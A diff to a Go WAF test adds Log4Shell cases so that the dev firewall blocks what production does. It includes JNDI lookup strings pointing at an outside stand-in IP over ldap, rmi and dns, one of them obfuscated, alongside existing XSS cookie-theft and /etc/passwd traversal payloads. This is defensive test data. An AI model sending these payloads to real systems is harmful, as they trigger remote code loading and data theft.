@@ -68,6 +68,14 @@ func TestCRSBlocksAttacksAndPassesConduitTraffic(t *testing.T) {
 		{"article body payload on another endpoint", "PUT", "/api/user", `{"article":{"body":"<script>alert(document.cookie)</script>"}}`, nil, true},
 		{"path traversal", "GET", "/api/articles/../../etc/passwd", "", nil, true},
 		{"scanner user agent", "GET", "/api/tags", "", map[string]string{"User-Agent": "sqlmap/1.7"}, true},
+		// Log4Shell (issue #30): what AWS WAF's known-bad-inputs group
+		// blocks in staging and prod, dev's WAF blocks too.
+		{"JNDI lookup in a header", "GET", "/api/tags", "", map[string]string{"X-Api-Version": "${jndi:ldap://203.0.113.9/a}"}, true},
+		{"JNDI lookup in the query", "GET", "/api/articles?tag=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", "", nil, true},
+		{"JNDI lookup in a body field", "POST", "/api/users/login", `{"user":{"email":"${jndi:rmi://203.0.113.9/a}","password":"x"}}`, nil, true},
+		{"JNDI lookup in an article body", "POST", "/api/articles", `{"article":{"title":"t","description":"d","body":"${jndi:dns://203.0.113.9/a}"}}`, nil, true},
+		{"obfuscated JNDI lookup", "GET", "/api/tags", "", map[string]string{"User-Agent": "${${lower:j}ndi:ldap://203.0.113.9/a}"}, true},
+		{"a template literal in an article", "POST", "/api/articles", `{"article":{"title":"JS","description":"d","body":"const s = ` + "`${a} and ${b}`" + `;"}}`, nil, false},
 	}
 	for _, tt := range tests {
 		v := inspect(t, w, tt.method, tt.target, tt.body, tt.header)
